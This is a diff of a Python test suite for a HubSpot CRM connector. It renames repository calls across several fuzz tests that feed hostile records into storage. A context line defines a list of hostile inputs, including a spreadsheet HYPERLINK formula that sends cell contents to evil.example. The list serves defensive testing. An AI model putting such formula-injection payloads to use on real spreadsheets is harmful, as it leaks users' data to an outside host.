@@ -22,7 +22,7 @@ from sqlalchemy import inspect
 from analytics.schema import COLUMNS
 from connectors.hubspot import mapping
 from connectors.hubspot.settings import DEAL_PROPERTIES, PropertyChoices, contact_properties
-from data import repository as repo
+from data import journal, queries, upserts
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?x="&A1,"click")',
@@ -99,8 +99,8 @@ def store(engine, table: str, mapped: mapping.Mapped, source: str) -> None:
     rejected = [{**r, "source": source} for r in mapped.rejected]
     with engine.begin() as conn:
         if len(frame):
-            repo.upsert(conn, table, frame)
-        repo.add_rejected_rows(conn, rejected)
+            upserts.upsert(conn, table, frame)
+        journal.add_rejected_rows(conn, rejected)
 
 
 def sent(records: list[dict], prop: str) -> dict[str, list]:
@@ -134,7 +134,7 @@ def test_hostile_owners_and_contacts(fuzz_engine, owners, contacts):
     store(fuzz_engine, "leads", mapped, source)
 
     assert sorted(inspect(fuzz_engine).get_table_names()) == tables
-    leads = repo.read_leads(fuzz_engine)
+    leads = queries.read_leads(fuzz_engine)
     leads = leads[leads["source"] == source]
     assert set(leads["external_id"]) == set(mapped.frame["external_id"])
     segments = sent(contacts, "accord_segment")
@@ -156,7 +156,7 @@ def test_hostile_deals_and_activities(fuzz_engine, deals, calls):
     assert len(mapped.frame) + len(mapped.rejected) == len(deals)
     store(fuzz_engine, "deals", mapped, source)
     names = sent(deals, "dealname")
-    stored = repo.read_deals(fuzz_engine)
+    stored = queries.read_deals(fuzz_engine)
     stored = stored[stored["source"] == source]
     for external_id, name in zip(stored["external_id"], stored["name"], strict=True):
         assert (None if pd.isna(name) else name) in names[external_id]
@@ -217,7 +217,7 @@ def test_known_hostile_records(fuzz_engine, frame, table, record):
     mapped = getattr(mapping, frame)([record])
     assert len(mapped.frame) + len(mapped.rejected) == 1
     store(fuzz_engine, table, mapped, source)
-    reader = {"leads": repo.read_leads, "deals": repo.read_deals}[table]
+    reader = {"leads": queries.read_leads, "deals": queries.read_deals}[table]
     stored = reader(fuzz_engine)
     assert (stored["source"] == source).sum() == len(mapped.frame)
 
@@ -228,8 +228,8 @@ def test_known_hostile_records(fuzz_engine, frame, table, record):
 def test_known_hostile_owners(fuzz_engine, owner):
     source = f"known{next(_sources)}"
     store(fuzz_engine, "owners", mapping.owners_frame([owner]), source)
-    stored = (repo.read_owners(fuzz_engine)["source"] == source).sum()
-    kept = len(repo.read_rejected_rows(fuzz_engine, source=source))
+    stored = (queries.read_owners(fuzz_engine)["source"] == source).sum()
+    kept = len(journal.read_rejected_rows(fuzz_engine, source=source))
     assert stored + kept == 1  # stored (as sent), or quarantined with its reason
 
 
